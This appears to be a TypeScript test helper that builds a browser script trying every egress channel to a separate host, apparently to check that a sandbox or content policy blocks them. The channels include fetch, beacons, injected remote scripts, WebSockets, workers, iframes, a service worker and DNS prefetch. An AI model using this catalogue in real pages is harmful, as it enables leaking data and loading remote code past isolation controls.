/** `origin` must be on a different host from the page. */
export function abuseOf(origin: string): string {
  const socketOrigin = origin.replace(/^http/, 'ws');
  return `
    const tried = (attempt) => { try { Promise.resolve(attempt()).catch(() => {}); } catch {} };
    const make = (tag, properties) => Object.assign(document.createElement(tag), properties);
    const ask = (way) => 'for (let n = 0; n < 100; n++) fetch("${origin}/' + way + '?" + n, { mode: "no-cors" }).catch(() => {});';
    const code = (way) => URL.createObjectURL(new Blob([ask(way)], { type: 'text/javascript' }));
    for (let n = 0; n < 60; n++) {
      tried(() => fetch('${origin}/fetch?' + n, { mode: 'no-cors' }));
      tried(() => fetch('/on?' + n, { mode: 'no-cors' }));
      tried(() => fetch('${origin}/posted?' + n, { mode: 'no-cors', method: 'POST' }));
      tried(() => navigator.sendBeacon('${origin}/beacon?' + n));
      tried(() => { new Image().src = '${origin}/image?' + n; });
      tried(() => { document.head.append(make('script', { src: '${origin}/script?' + n })); });
      tried(() => new WebSocket('${socketOrigin}/socket?' + n));
      tried(() => new EventSource('${origin}/events?' + n));
    }
    for (let n = 0; n < 3; n++) {
      tried(() => { document.body.append(make('iframe', { src: '${origin}/frame?' + n })); });
      tried(() => new Worker(code('worker')));
      tried(() => new SharedWorker(code('shared')));
      tried(() => { document.body.append(make('iframe', { srcdoc: '<script>' + ask('inner') + '</' + 'script>' })); });
    }
    tried(() => {
      const frame = make('iframe', {});
      document.body.append(frame);
      return new frame.contentWindow.SharedWorker(code('framed-shared'));
    });
    tried(() => ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, '/service.js'));
    for (const rel of ['preconnect', 'dns-prefetch'])
      for (const host of ['https://looked-up.test', 'http://looked-up.test'])
        document.head.append(make('link', { rel, href: host }));`;
}
